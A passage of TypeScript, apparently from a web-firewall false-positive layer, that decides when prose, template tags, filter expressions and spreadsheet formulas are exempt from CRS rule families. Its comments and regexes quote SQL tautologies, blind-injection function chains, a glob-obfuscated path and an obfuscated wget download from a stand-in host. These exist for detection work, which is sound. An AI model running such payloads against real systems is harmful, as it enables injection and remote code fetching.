    'or and xor not union select true false null is like rlike regexp sounds between in exists case when then ' +
    'else if sleep benchmark waitfor delay div mod binary escape collate glob match similar ilike'
  ).split(' '),
);

/** Fewest words a value needs for the `c` and `q` families, in JSON and in a query string alike. */
const MIN_WORDS_CQ = 4;

/** Longest value classified as prose (longer values get no waiver: the classification cost stays bounded). */
export const MAX_PROSE_BYTES = 32 * 1024;

/**
 * Fewest words of a query-string value classified as prose (JSON values need 4): search boxes hold short phrases
 * such as `"program files" windows 11`. A single token (`alert(1)`, `etc/passwd`) never is, and every family still
 * needs the absence of its exploit syntax.
 */
export const QUERY_MIN_WORDS = 2;

function inertCalls(text: string): boolean {
  for (const m of text.matchAll(JS_CALL)) {
    if (m[1] === '{') return false;
    const at = (m.index as number) + m[0].length - 1;
    if (!INERT_ARGS.test(text.slice(at, at + 100))) return false;
  }
  return true;
}

// A plain Liquid/Jinja/Mustache merge tag: a variable (n8n's `{{ $json.body.company }}`, Go's `{{.FirstName}}` too) with filters over
// literals (`{{ item.price | money }}`,
// `{{ last_call_date | date: "%A" }}`) or a control tag over variables (`{% for item in order.items %}`,
// `{% if contact.tags contains "vip" %}`, `{% endif %}`); no call, subscript or nested delimiter, on one line.
// Session 9 (evasion audit): the tag is judged as one word, so nothing in it may mean anything to the sinks the
// rules protect: literals hold words, digits and plain punctuation only (no quote of the other kind, `;`, `|`,
// `&`, `=`, `<`, `>`, `$`, parenthesis, backslash or line break) and no SQL logic word (see {@link plainMergeTag}; `' or 1 or '`
// in a `'…'` SQL string is a tautology), comparison operators stand between spaces (`a <script>` is markup), and
// tokens are separated by spaces or tabs only (a line break starts a shell command).
const TAG_LITERAL = String.raw`"[\p{L}\p{M}\p{N} .,:%/#€£_!?+*-]{0,60}"|'[\p{L}\p{M}\p{N} .,:%/#€£_!?+*-]{0,60}'`;
const TAG_ARG = String.raw`(?:${TAG_LITERAL}|[\w.]+)`;
const TAG_TOKEN = String.raw`(?:${TAG_LITERAL}|[a-z_][\w.]*(?::[\w.]+)?|[0-9][0-9.]*|==|!=|<>|>=|<=|<|>)`;
const MERGE_TAG = new RegExp(
  String.raw`\{\{-?[ \t]*[$.]?[a-z_][\w.]*(?:[ \t]*\|[ \t]*[a-z_]+(?::[ \t]*${TAG_ARG}(?:[ \t]*,[ \t]*${TAG_ARG})*)?)*[ \t]*-?\}\}` +
    String.raw`|\{%-?[ \t]*(?:(?:for|if|unless|elsif|elif|when|case)(?:[ \t]+${TAG_TOKEN}){1,20}|end[a-z]+|else)[ \t]*-?%\}`,
  'giu',
);
// A SQL logic or statement word in a tag's literal: the literal's quotes may be a SQL string's.
const TAG_SQL_WORD =
  /(?:^|[^\p{L}\p{N}_])(?:or|and|xor|not|union|select|like|rlike|regexp|sleep|benchmark|having|null|is|div|mod)(?![\p{L}\p{N}_])/iu;

/** A merge tag's replacement: `x` for a plain one (see {@link MERGE_TAG}), the tag itself otherwise. */
function plainMergeTag(tag: string): string {
  for (const m of tag.matchAll(/"([^"]*)"|'([^']*)'/g)) if (TAG_SQL_WORD.test(m[1] ?? m[2] ?? '')) return tag;
  return 'x';
}

// What CRS 932140 reads as a Windows `if`/`for` command.
const WINDOWS_CONTROL =
  /\bif\b[^\n]*(?:==|\b(?:equ|neq|lss|leq|gtr|geq|exist|defined|errorlevel)\b)|\bfor\b[^\n]*\bin\s*\(/i;

/** `i` when the text has template control tags and, once its plain merge tags are words, no batch `if`/`for`. */
function controlTagsInert(text: string, merged: string): string {
  return merged !== text && text.includes('{%') && !WINDOWS_CONTROL.test(merged) ? 'i' : '';
}

/** The text with its plain merge tags as the word `x`. */
function withoutMergeTags(text: string): string {
  return text.includes('{') ? text.replace(MERGE_TAG, plainMergeTag) : text;
}

// A token of a filter expression: a quoted string, an identifier (dotted, hyphenated), a number with an optional unit or
// relative-date suffix (`-30d`), an operator, a comma or a parenthesis.
// Literals hold no backslash (session 9 audit 12: `'x\' or 1=1 …'` is one literal to MySQL's escapes and two to
// standard SQL, whose quote ends at the backslash).
const FILTER_TOKEN =
  /\s*(?:("[^"\\\n]{0,200}"|'[^'\\\n]{0,200}')|([A-Za-z_][\w.]{0,63}(?:-[A-Za-z0-9_]+){0,4})|(-?[0-9]+(?:\.[0-9]+)?[a-z]{0,2})|(!=|<>|<=|>=|==|=|<|>|!~|~)|([,()]|&&|\|\||!(?=\s*[(A-Za-z_])|[-+](?=\s)))/y;
const TYPED_LITERAL = new Set(['date', 'time', 'timestamp', 'interval']);
// The spatial predicates of CQL/ECQL and PostGIS (`BBOX(geom, …)`, `DWITHIN(…)`, `ST_Intersects(…)`).
const SPATIAL_PREDICATE =
  /^(?:bbox|intersects|dwithin|within|contains|crosses|overlaps|touches|disjoint|equals|beyond|relate|st_[a-z]{3,20})$/i;
const FILTER_COMPARISON_WORDS = new Set('like in is was changed contains eq ne gt lt ge le has'.split(' '));
const FILTER_LOGIC_WORDS = new Set(
  'and or not order by asc desc to from after before during on empty null true false between limit offset'.split(
    ' ',
  ),
);
// What turns an expression into SQL of an attacker's choosing, outside string literals: statements, functions
// that read the database or the file system or delay, conditionals, comments, stacked queries, hex literals.
const FILTER_FORBIDDEN =
  /\b(?:union|select|insert|update|delete|drop|alter|create|truncate|exec|execute|declare|sleep|benchmark|waitfor|pg_sleep|cast|convert|concat|char|chr|substr|substring|mid|ascii|ord|hex|unhex|version|database|schema|user|current_user|system_user|information_schema|sysobjects|extractvalue|updatexml|load_file|outfile|dumpfile|dbms_\w+|utl_\w+|xp_\w+|sp_\w+|if|case|when|iif|elt|make_set|exists|having|group|into|procedure)\b|0x[0-9a-f]/i;

/**
 * True when the text is only a filter expression of a search or query language (JQL, CQL, OData `$filter`, a
 * saved search): comparisons whose left side is a field (an identifier or a function of one) and whose right side
 * is a literal, a field, a function call or a parenthesised list, joined by AND/OR/NOT, with an optional ORDER BY.
 * Every quote and parenthesis is balanced, and outside string literals there is no statement, no function that
 * reads the database or delays, no conditional, no comment, no `;` and no hex literal. libinjection reads such
 * text as SQL (which it resembles); what it cannot hold is a break-out (an unbalanced quote), a tautology
 * between literals (`1=1`, `'a'='a'`) or of a field with itself, a subquery or a stacked statement (family `e`).
 * @example
 * filterExpressionOnly('project = OPS AND status in ("In Progress", "To Do") ORDER BY updated DESC'); // true
 * filterExpressionOnly("lower(site_name) LIKE '%loch%' AND elevation_m < 300"); // true
 * filterExpressionOnly("x' OR '1'='1"); // false
 * filterExpressionOnly('id = 1 OR 1 = 1'); // false
 */
export function filterExpressionOnly(text: string): boolean {
  if (text.length > 2000 || text.trim() === '') return false;
  type Token = readonly [kind: 'str' | 'id' | 'num' | 'op' | 'punct', value: string];
  const tokens: Token[] = [];
  let at = 0;
  while (text.slice(at).trim() !== '') {
    FILTER_TOKEN.lastIndex = at;
    const m = FILTER_TOKEN.exec(text);
    if (m === null || m[0].length === 0) return false;
    at = FILTER_TOKEN.lastIndex;
    if (m[1] !== undefined) tokens.push(['str', m[1]]);
    else if (m[2] !== undefined)
      tokens.push([FILTER_COMPARISON_WORDS.has(m[2].toLowerCase()) ? 'op' : 'id', m[2]]);
    else if (m[3] !== undefined) tokens.push(['num', m[3]]);
    else if (m[4] !== undefined) tokens.push(['op', m[4]]);
    else tokens.push(['punct', m[5] as string]);
  }
  // A negated group or a `!` beside an OR (`owner_id = 7 || !(owner_id = 7)`, `… or not (…)`): the shape of a
  // tautology, true for every row (session 10 audit 16, after `!` became a negation here).
  const disjunction = tokens.some(
    ([k, v]) => (k === 'punct' && v === '||') || (k === 'id' && v.toLowerCase() === 'or'),
  );
  const negatedGroup = tokens.some(
    ([k, v], n) =>
      (k === 'punct' && v === '!') || (k === 'id' && v.toLowerCase() === 'not' && tokens[n + 1]?.[1] === '('),
  );
  if (disjunction && negatedGroup) return false;
  // Nor a negated boolean field that is also named elsewhere (`trashed or not trashed`).
  if (disjunction) {
    for (let n = 0; n + 1 < tokens.length; n++) {
      const [k, v] = tokens[n] as (typeof tokens)[number];
      if (!(k === 'id' && v.toLowerCase() === 'not')) continue;
      const negated = (tokens[n + 1] as (typeof tokens)[number])[1].toLowerCase();
      if (tokens.some(([, w], m) => m !== n + 1 && w.toLowerCase() === negated)) return false;
    }
  }
  // Outside string literals: no statement, delay, database function, comment, `;` or hex literal.
  if (text.includes('\\')) return false;
  if (FILTER_FORBIDDEN.test(text.replace(/"[^"\n]*"|'[^'\n]*'/g, ' '))) return false;
  let i = 0;
  const peek = (): Token | undefined => tokens[i];
  const word = (t: Token | undefined, w: string): boolean =>
    t !== undefined && t[0] === 'id' && t[1].toLowerCase() === w;
  const field = (t: Token | undefined): boolean =>
    t !== undefined && t[0] === 'id' && !FILTER_LOGIC_WORDS.has(t[1].toLowerCase());
  // A call's arguments: literals, fields and nested calls, separated by commas.
  const call = (): boolean => {
    if (peek()?.[1] !== '(') return true;
    i++;
    if (peek()?.[1] === ')') {
      i++;
      return true;
    }
    for (;;) {
      const t = peek();
      if (t === undefined || !(t[0] === 'str' || t[0] === 'num' || field(t))) return false;
      i++;
      if (t[0] === 'id' && !call()) return false;
      const sep = peek()?.[1];
      i++;
      if (sep === ')') return true;
      if (sep !== ',') return false;
    }
  };
  const literal = (t: Token | undefined): boolean => t !== undefined && (t[0] === 'str' || t[0] === 'num');
  // left operator right, where left is a field, a call or a quoted field name (JQL's `"Story Points" > 3`) and
  // right a literal, field, call or (list); or left BETWEEN literal AND literal.
  const comparison = (): boolean => {
    const left = peek();
    if (left?.[0] === 'str') {
      // A quoted field name is compared with a number, a field or a list only (`'1' = '1'` is a tautology).
      i++;
      if (peek()?.[0] !== 'op') return false;
      while (peek()?.[0] === 'op') i++;
      const right = peek();
      if (right === undefined || right[0] === 'str') return false;
      if (right[0] === 'num' || word(right, 'empty') || word(right, 'null')) {
        i++;
        return true;
      }
      if (!field(right)) return false;
      i++;
      return call();
    }
    if (!field(left)) return false;
    i++;
    const predicate = SPATIAL_PREDICATE.test((left as Token)[1]) && peek()?.[1] === '(';
    if (!call()) return false;
    // A spatial predicate is a condition by itself (GeoServer's `BBOX(the_geom, -79.5, 43.6, -79.3, 43.8) AND
    // (type = 'school' OR …)`; session 9).
    if (predicate && peek()?.[0] !== 'op') return true;
    if (word(peek(), 'between')) {
      i++;
      if (!literal(peek()) || !word(tokens[i + 1], 'and') || !literal(tokens[i + 2])) return false;
      i += 3;
      return true;
    }
    const leftCall = tokens[i - 1]?.[1] === ')';
    if (peek()?.[0] !== 'op' && !word(peek(), 'not')) return false;
    while (peek()?.[0] === 'op' || word(peek(), 'not')) i++;
    const right = peek();
    if (right === undefined) return false;
    if (right[1] === '(') {
      // A list of literals and fields.
      i++;
      for (;;) {
        const t = peek();
        if (t === undefined || !(t[0] === 'str' || t[0] === 'num' || field(t))) return false;
        i++;
        const sep = peek()?.[1];
        i++;
        if (sep === ')') return true;
        if (sep !== ',') return false;
      }
    }
    if (right[0] === 'str' || right[0] === 'num' || word(right, 'empty') || word(right, 'null')) {
      i++;
      return true;
    }
    // A typed literal (`DATE '2026-01-01'`, `TIMESTAMP '…'`, `INTERVAL '7 days'`).
    if (TYPED_LITERAL.has(right[1].toLowerCase()) && tokens[i + 1]?.[0] === 'str') {
      i += 2;
      return true;
    }
    if (!field(right)) return false;
    // A field compared with itself is a tautology.
    if (!leftCall && right[1].toLowerCase() === (left as Token)[1].toLowerCase()) return false;
    i++;
    if (!call()) return false;
    // Date arithmetic on the right (`last_seen > now() - interval '30 days'`; session 9): an interval or a number.
    if (peek()?.[1] === '-' || peek()?.[1] === '+') {
      i++;
      if (peek()?.[0] === 'num') i++;
      else if (word(peek(), 'interval') && tokens[i + 1]?.[0] === 'str') i += 2;
      else return false;
    }
    return true;
  };
  // expression = term ((AND | OR) term)*, term = [NOT] (comparison | '(' expression ')').
  const expression = (): boolean => {
    for (;;) {
      // `NOT` or, in a rule engine's expression language, `!` (`… && !(claims.count_5y > 2)`; session 10).
      const negated = word(peek(), 'not') || peek()?.[1] === '!';
      if (negated) i++;
      const next = tokens[i + 1];
      if (peek()?.[1] === '(') {
        i++;
        if (!expression() || peek()?.[1] !== ')') return false;
        i++;
      } else if (
        negated &&
        field(peek()) &&
        (next === undefined || next[1] === ')' || FILTER_LOGIC_WORDS.has(next[1].toLowerCase()))
      ) {
        // A negated boolean field (Google Drive's `… and not trashed`, session 9).
        i++;
      } else if (!comparison()) return false;
      if (!(word(peek(), 'and') || word(peek(), 'or') || peek()?.[1] === '&&' || peek()?.[1] === '||'))
        return true;
      i++;
    }
  };
  if (!expression()) return false;
  // ORDER BY field [ASC|DESC] (, field [ASC|DESC])*
  if (word(peek(), 'order')) {
    i++;
    if (!word(peek(), 'by')) return false;
    i++;
    for (;;) {
      if (!field(peek())) return false;
      i++;
      if (word(peek(), 'asc') || word(peek(), 'desc')) i++;
      if (peek()?.[1] !== ',') break;
      i++;
    }
  }
  // LIMIT n [OFFSET n]: a page of results.
  if (word(peek(), 'limit') && tokens[i + 1]?.[0] === 'num') {
    i += 2;
    if (word(peek(), 'offset') && tokens[i + 1]?.[0] === 'num') i += 2;
  }
  return i === tokens.length;
}

// Interpreters and tools that are also ordinary setting values (a notebook's kernel, a runtime, a package manager,
// a client): no probe, no launcher of another command, nothing that acts on the machine without arguments.
const TOOL_VALUES = new Set(
  (
    'python python2 python3 pypy pypy3 node nodejs deno bun ruby perl php php7 php8 java javac go gcc clang make ' +
    'cmake docker podman kubectl helm git npm npx yarn pnpm pip pip3 poetry conda curl wget ssh scp rsync tar gzip ' +
    'zip unzip awk gawk sed grep vim nano emacs less more top htop ping telnet ftp sftp sqlite3 mysql psql ' +
    'redis-cli mongo mongosh lua R julia scala kotlin swift dotnet gradle mvn ansible terraform'
  )
    .toLowerCase()
    .split(' '),
);
// A shell expansion or substitution (what CRS 932130 is for, besides process substitution).
const SHELL_EXPANSION = /\$[({]|`/;
// What else 932130 reads as a shell expansion: a bracket glob after a slash (`/bi[n]/c[a]t`; session 9 audit:
// family `o` lifted it after markup). The rule's own shape, so family `o` only lifts its `>(` reading.
const SHELL_GLOB = /\/[0-9A-Za-z_]*\[!?[^\n]+\]/;
/** True when 932130 could read a bracket glob in the text (its `t:cmdLine` drops quotes, backslashes and carets). */
function shellGlob(text: string): boolean {
  return text.includes('[') && SHELL_GLOB.test(text.replace(/["'\\^]/g, ''));
}
// A storage key of plain segments to a photo, video or document (`claims/tmp/1d5b….heic`; session 8): relative,
// no traversal, and a media extension no OS file (930120's list) has.
const STORED_MEDIA_PATH =
  /^(?:[A-Za-z0-9_][\w@-]{0,63}\/){1,8}[\w-][\w.-]{0,127}\.(?:jpe?g|png|gif|webp|heic|heif|avif|tiff?|bmp|pdf|mp4|mov|webm|mp3|m4a|wav|docx?|xlsx?|pptx?)$/i;
// A bare file name with a document, data or image extension.
const DOCUMENT_FILE_NAME =
  /^[A-Za-z0-9_][\w-]{0,63}(?:\.[\w-]{1,32}){0,2}\.(?:ya?ml|json|jsonl|toml|md|markdown|txt|csv|tsv|log|xml|html?|pdf|png|jpe?g|gif|svg|webp|ipynb|docx?|xlsx?|pptx?|odt|ods|zip|tar|gz|tgz)$/i;
// A relative path of plain segments to a dependency manifest or lock file.
const DEPENDENCY_MANIFEST =
  /^(?:[A-Za-z0-9_@][\w@.-]{0,63}\/){0,8}(?:package(?:-lock)?\.json|npm-shrinkwrap\.json|yarn\.lock|pnpm-lock\.yaml|composer\.(?:json|lock)|Gemfile(?:\.lock)?|Cargo\.(?:toml|lock)|go\.(?:mod|sum)|requirements\.txt|Pipfile(?:\.lock)?|poetry\.lock|pom\.xml|build\.gradle(?:\.kts)?)$/;
// What 942350 looks for after a `;` (and its `create function … returns`), and a character reference.
const STACKED_STATEMENT =
  /;\s*(?:alter|create|rename|truncate|update|delete|desc|drop|insert|select|load)\b|create\s+function\s/i;
const CHARACTER_REFERENCE = /&(?:[a-z][a-z0-9]{1,31}|#[0-9]{1,7}|#x[0-9a-f]{1,6});/gi;

/**
 * The prose families (sorted letters among `c`, `l`, `p`, `q`, `s`, `x`; see the module comment) a byte-string value
 * is exempted from, or '' when it is not natural language (or longer than {@link MAX_PROSE_BYTES}) or has the
 * syntax of every family. `minWords`: see {@link isNaturalLanguage} (judged with markdown code-span delimiters as
 * spaces); `c`, `p` and `q` need at least four words whatever `minWords` is.
 * @example
 * proseWaivers('Windows users: open C:\\Program Files\\Acme and run setup.exe.'); // 'lpx'
 * proseWaivers('Hi <script>alert(1)</script> there friend'); // 'ls'
 * proseWaivers('alert() vs console.log', QUERY_MIN_WORDS); // 'lsx'
 */
export function proseWaivers(bytes: string, minWords = 4): string {
  let out = sortFamilies(proseFamilies(bytes, minWords));
  if (NORTHWIND.test(bytes) && !DB_NAME_942140.test(bytes.replace(NORTHWIND_NAME, ' ')))
    out = sortFamilies(`${out}w`);
  // Family n (session 8): a request line or an `HTTP/1.1` in a value without a line break (a log record's
  // `"request": "GET /index.html HTTP/1.1"`) cannot start a second request or a header: no CR or LF, no
  // smuggling or splitting (921110, 921130; the XSS rules still read `<html` and `<meta`).
  // Nor a line break spelled as a character reference, an escape or a percent-encoding (session 9 audit): a
  // backend that decodes the value before sending it on would send one.
  if (
    !/[\r\n]|&#(?:0*1[03]|x0*[ad]);|\\[rn]|%0[ad]/i.test(bytes) &&
    /http\/[0-9]|<(?:html|meta)\b/i.test(bytes)
  )
    return sortFamilies(`${out}n`);
  return out;
}

// `Northwind` as a company or domain name (`ops@northwind.io`, `Client: Northwind`; session 8): CRS 942140 lists
// Microsoft's sample database by that name. Not before `..`, `.dbo` or `]` (a SQL Server object name).
const NORTHWIND = /northwind/i;
const NORTHWIND_NAME = /\bnorthwind\b(?!\s*(?:\.\.|\.\s*dbo\b|\]))/gi;
// What else 942140 reads: any of it keeps the rule on the whole value.
const DB_NAME_942140 =
  /northwind|information_schema|sysdatabases|msdb|msys|mysql\.db|pg_catalog|pg_toast|tempdb|sqlite_(?:temp_)?master|sysaux|sys\.|database\W*\(|db_name\W*\(|schema(?:_name|\W*\()/i;

const MD_HEADING = /^[ \t]{0,3}#{1,6}[ \t]+(?=\S)/gm;
const MD_TABLE_RULE = /^[ \t]*\|?[ \t]*:?-{3,}:?[ \t]*(?:\|[ \t]*:?-{3,}:?[ \t]*)+\|?[ \t]*$/gm;
const MD_TABLE_ROW = /^[ \t]*\|([^\n|]*(?:\|[^\n|]*)+)\|[ \t]*$/gm;

/** A markdown document's heading marks and table rules removed and table pipes as commas (see proseFamilies). */
function markdownLayoutAsWords(text: string): string {
  return text
    .replace(MD_HEADING, '')
    .replace(MD_TABLE_RULE, '')
    .replace(MD_TABLE_ROW, (_m, cells: string) => cells.replace(/\|/g, ','));
}

// ICU MessageFormat: a simple argument (`{name}`, `{pct, number, percent}`, `{d, date, short}`), a sub-message of a
// plural or select argument after its selector (`one {# photo selected}`, `=0 {none}`, `female {her}`), and a
// plural or select argument once its sub-messages are words.
const ICU_SIMPLE =
  /\{\s*[A-Za-z_][\w.]{0,40}\s*(?:,\s*(?:number|date|time|spellout|ordinal|duration)\s*(?:,\s*[\w:.%-]{1,30}\s*)?)?\}/g;
const ICU_SUBMESSAGE =
  /(^|[\s,])((?:zero|one|two|few|many|other|=[0-9]{1,4}|[a-z][\w-]{0,20}))\s*\{([^{}]{0,300})\}/g;
const ICU_COMPLEX =
  /\{\s*[A-Za-z_][\w.]{0,40}\s*,\s*(?:plural|select|selectordinal)\s*,(?:\s*offset:[0-9]{1,3})?([^{}]{0,2000})\}/g;

/** A message's ICU arguments as words (see proseFamilies); other braces are left as they are. */
function icuAsWords(text: string): string {
  let out = text.replace(ICU_SIMPLE, 'value');
  for (let i = 0; i < 4; i++) {
    const next = out
      .replace(
        ICU_SUBMESSAGE,
        (_m, pre: string, _sel: string, body: string) => `${pre} ${body.replace(/#/g, '1')} `,
      )
      .replace(ICU_COMPLEX, (_m, body: string) => ` ${body} `);
    if (next === out) break;
    out = next;
  }
  return out;
}

/** The letters of a family string in order (`hn` + `c` → `chn`). */
function sortFamilies(families: string): string {
  return [...families].sort().join('');
}

/** {@link proseWaivers} but family `n`. */
function proseFamilies(bytes: string, minWords: number): string {
  // A value that is one bare command name (`"language": "python3"`, `"shell": "bash"`): a command without
  // arguments, which runs nothing an attacker chose. Probes, launchers and power commands keep the rules.
  if (minWords >= MIN_WORDS_CQ && bytes.length <= 16 && TOOL_VALUES.has(bytes.toLowerCase())) return 'c';
  // A snippet's `"language": "powershell"` (session 8): the shell's name alone, no cmdlet, runs nothing (932120).
  if (minWords >= MIN_WORDS_CQ && /^(?:powershell|pwsh)$/i.test(bytes)) return 'p';
  // A PowerShell file name (`snippet-1.powershell`, `deploy.ps1`) or a title naming the shell (`powershell
  // snippet`; session 10): a command that does not exist, or the shell running a plain word that is no command,
  // alias or probe.
  if (
    minWords >= MIN_WORDS_CQ &&
    bytes.length <= 80 &&
    (POWERSHELL_FILE.test(bytes) || powershellTitle(bytes))
  )
    return 'p';
  // A file name with a document or data extension (`"title": "docker-compose.yml"`; session 9): to a shell a
  // command that does not exist (the extension is part of its name), to CRS a command word (932260).
  const documentName = minWords >= MIN_WORDS_CQ && DOCUMENT_FILE_NAME.test(bytes) && !LFI_SYNTAX.test(bytes);
  // A dependency manifest named by a relative path (`"manifest_path": "web/package-lock.json"` in every
  // Dependabot alert; session 8): in CRS' OS-file list (930120), but no traversal and no absolute path.
  const manifest = DEPENDENCY_MANIFEST.test(bytes) || STORED_MEDIA_PATH.test(bytes);
  if (manifest) return documentName ? 'cl' : 'l';
  if (documentName) return 'c';
  if (inertToken(bytes)) return 'g';
  if (minWords >= MIN_WORDS_CQ && bytes.startsWith('=') && spreadsheetFormula(bytes)) return 'y';
  if (bytes.length < 12 || bytes.length > MAX_PROSE_BYTES) return '';
  const text = bytesToText(bytes);
  if (text === null) return '';
  // Rich-text HTML is not prose; it gets family `h` alone when a strict sanitizer would pass it unchanged.
  // Its `;` ending a character reference before a word (`&ldquo;Select your battles`) is no stacked query (`s`);
  // its text, tags as line breaks, is judged for family `c` as prose is. E-mail and CMS templates hold merge tags
  // (`{{ first_name | default: "there" }}`, `{% for item in order.items %}`): plain ones are text to the sanitizer.
  // An XML data document (a configuration profile decoded from base64): nothing in it runs (session 9).
  if (text.startsWith('<?xml') && inertXmlDocument(text)) return 'h';
  if (text.includes('<')) {
    const html = withoutMergeTags(text);
    if (sanitizedHtml(html)) {
      const content = html.replace(/<[^>]*>/g, '\n').replace(CHARACTER_REFERENCE, ' ');
      const natural = isNaturalLanguage(content, MIN_WORDS_CQ);
      const lined = html.replace(/<[^>]*>/g, `\n${AFTER_TAG}`).replace(CHARACTER_REFERENCE, ' ');
      const c = natural && commandOnlyAtStart(lined) ? 'c' : '';
      // Its text's parentheses (`Science of sleep (45 min)`) judged as prose's are (family f).
      const f = content.includes('(') && inertParentheses(content) && !DELAY_CALL.test(content) ? 'f' : '';
      // A `; drop …` in its text is no stacked query when the statement cannot parse (as in prose).
      const stacked = STACKED_STATEMENT.test(text.replace(CHARACTER_REFERENCE, ' '));
      const sq = !stacked || (noStackedQuery(content) && !/['"`\\]/.test(content)) ? 's' : '';
      // JavaScript calls named in its text (`we cover ActionScript, eval() and …`) judged as prose's are (family x).
      const x = !XSS_SYNTAX.test(content) && inertCalls(content) ? 'x' : '';
      // Family n: in such a document 921130 can only read `<html` or `<meta` when no `HTTP/1.1` is there.
      const n = /http\/[0-9]/i.test(text) ? '' : 'n';
      const o = SHELL_EXPANSION.test(text) || shellGlob(text) ? '' : 'o';
      return sortFamilies(
        `${c}${f}h${n}${o}${sq}${natural && mayUnionSelect(text) ? 'u' : ''}${x}${controlTagsInert(text, html)}`,
      );
    }
  }
  // Code-span delimiters are markdown, not code punctuation: prose is judged without them.
  const md = markdownCodeText(text);
  const math = text.includes('$') && latexMathOnly(text);
  // Code-span delimiters are markdown and formulas are words, not code punctuation, for the prose judgement.
  let prose = md === null ? text : md.replace(/`/g, ' ');
  if (math) prose = prose.replace(LATEX_MATH, ' formula ');
  // Bare tags named in a sentence are words of it (`<script> tags in innerHTML do not run`).
  const bare = text.includes('<') && bareTagsInert(text);
  if (bare) prose = prose.replace(/<[^<>]*>/g, ' tag ');
  // Plain merge tags (`Hi {{first_name}},`) are words to a reader and to a shell (no group, no expansion).
  const merged = withoutMergeTags(text);
  if (merged !== text) prose = withoutMergeTags(prose);
  // ICU message arguments (`{count, plural, one {# photo} other {# photos}}`, `{pct, number, percent}`) are words
  // of the sentence to a reader; their sub-messages are prose, judged as the rest is (session 10, held-out 29).
  if (text.includes('{')) prose = icuAsWords(prose);
  // A markdown document's headings and tables (`### Load notes`, `| Weight | 42,500 lb |`, `|---|---|`): the marks
  // are layout, the cells words of the text (session 10, held-out 31).
  if (text.includes('#') || text.includes('|')) prose = markdownLayoutAsWords(prose);
  if (text.includes('* *')) prose = prose.replace(CRON_IN_TEXT, '$1schedule');
  // Template tags are judged whether or not the text around them reads as prose (their braces are code characters).
  const tmpl = text.includes('{{') && templateCallsInert(text) ? 't' : '';
  const piped = text.includes('${') && pipedTextOnly(text) ? 'v' : '';
  const control = controlTagsInert(text, merged);
  if (!isNaturalLanguage(prose, minWords))
    return sortFamilies(
      (arithmeticOnly(text) || searchExpressionOnly(text) ? 'q' : filterExpressionOnly(text) ? 'e' : '') +
        tmpl +
        piped +
        control,
    );
  const long = minWords >= MIN_WORDS_CQ || isNaturalLanguage(prose, MIN_WORDS_CQ);
  let out = '';
  const commandsInert = long && (md !== null || commandOnlyAtStart(merged));
  if (commandsInert) out += 'c';
  if (filterExpressionOnly(text)) out += 'e';
  if (long && text.includes('(') && inertParentheses(text) && !SQL_STATEMENT.test(text) && quotesInert(prose))
    if (!DELAY_CALL.test(text)) out += 'f';
  // Tags named in a sentence (`why <script> tags still show up`, `<img onerror> handlers`): bare tags that run
  // nothing (session 8, bareTagsInert) get the rich-text exemption a sanitizer-clean value gets.
  if (long && bare) out += 'h';
  if (long && bare && !SHELL_EXPANSION.test(text) && !shellGlob(text)) out += 'o';
  // OS file names are a command's arguments when a command that reads, writes or fetches files follows a separator
  // (session 9 audit 12: `…; w"g"et evil.example/x -O /tmp/x`), unless the commands are inert.
  if (!LFI_SYNTAX.test(text) && (commandsInert || !separatedFileCommand(text))) out += 'l';
  if (long && math) out += 'm';
  if (long && powershellInert(text)) out += 'p';
  // Search phrases are short: a query parameter (`minWords` < 4) is judged for `q` whatever its length.
  if (((long || minWords < MIN_WORDS_CQ) && proseQuotesInert(prose)) || searchExpressionOnly(text))
    out += 'q';
  // A `;` before a statement word is no stacked query when the statement cannot parse (two bare words in a
  // row), whether or not the text holds quotes, as long as they are inert (family q's judgement).
  // Session 10: the quote judgement alone is enough for it (`Grant PI's note: the UNION of both datasets …;
  // SELECT criteria unchanged.`): statement shapes across sentences (family q refuses them) cannot run when the
  // part before the `;` cannot parse, and a batch that does not parse runs nothing.
  // A statement shape still keeps the rule (`it's me; select name from users`), but for `union` as a noun (not
  // followed by SELECT, ALL or DISTINCT).
  const quotedOnly =
    long &&
    !SQL_SYNTAX.test(text.replace(/['"]/g, ' ')) &&
    !SQL_STATEMENT.test(text.replace(/\bunion\b(?!\s+(?:all|distinct|select)\b)/gi, ' ')) &&
    quotesInert(prose);
  if (noStackedQuery(text) && (!SQL_SYNTAX.test(text) || (long && proseQuotesInert(prose)) || quotedOnly))
    out += 's';
  out += tmpl;
  if (long && mayUnionSelect(text)) out += 'u';
  out += piped + control;
  if (!XSS_SYNTAX.test(text) && inertCalls(text)) out += 'x';
  return out;
}

// A token of a spreadsheet formula: a string literal, a function name before `(`, a cell, range or column range
// with an optional sheet (`Costs!C:C`, `'Q1 Forecast'!B7`), a number, a name, an operator or punctuation.
const FORMULA_TOKEN =
  /\s*(?:"([^"]{0,100})"|([A-Za-z][A-Za-z0-9_.]{0,30})(?=\()|(?:(?:[A-Za-z_][\w.]{0,30}|'([A-Za-z0-9 _.-]{1,40})')!)?(?:\$?[A-Za-z]{1,3}\$?[0-9]{1,7}(?::\$?[A-Za-z]{1,3}\$?[0-9]{0,7})?|[A-Za-z]{1,3}:[A-Za-z]{1,3})(?![\w(])|[0-9]+(?:\.[0-9]+)?%?|([A-Za-z_][\w.]{0,40})|<>|<=|>=|[-+*/^&=<>,;:()])/y;
// SQL words as a formula's bare names (`=A1 union select …`): Excel's `AND(`, `OR(`, `NOT(` are calls.
const FORMULA_SQL_NAME =
  /^(?:or|and|xor|not|union|select|from|where|like|rlike|regexp|having|null|is|into|order|group|by|limit|insert|update|delete|drop|exec|execute|declare|case|when|then|else|end|div|mod)$/i;
// A literal's content: a comparison criterion (`"<>"`, `">="`) or words, digits and plain punctuation without a
// quote, comment, separator or SQL logic word (a formula's quotes may be a SQL string's).
const FORMULA_LITERAL = /^(?:[<>=!]{1,2}|[\p{L}\p{M}\p{N} .,:/%€$£_-]{0,100})$/u;
// Functions of a database rather than a spreadsheet: a delay, a file read, an XML error oracle.
// Session 9 audit 12: also what reads the database's identity or data (`ASCII(SUBSTRING(CURRENT_USER(),1,1))`,
// `GTID_SUBSET(CONCAT(0x7e,USER()),1)`): no spreadsheet has these.
const FORMULA_FORBIDDEN =
  /^(?:sleep|benchmark|pg_sleep|waitfor|load_file|extractvalue|updatexml|exec|execute|xp_\w+|dbms_\w+|utl_\w+|ascii|ord|substring|substr|current_user|session_user|system_user|user|version|database|schema|gtid_\w+|json_\w+|xmltype|cast|hex|unhex|pg_\w+|sys_\w+|query_to_xml|lo_\w+|name_const|geometrycollection|polygon|multipoint|exp|floor|rand|row)$/i;

/**
 * True when the value is one spreadsheet formula (family `y`): `=` and then literals, function calls, cells and
 * ranges, numbers, names and operators only, parentheses balanced, at least one call or cell; literals are
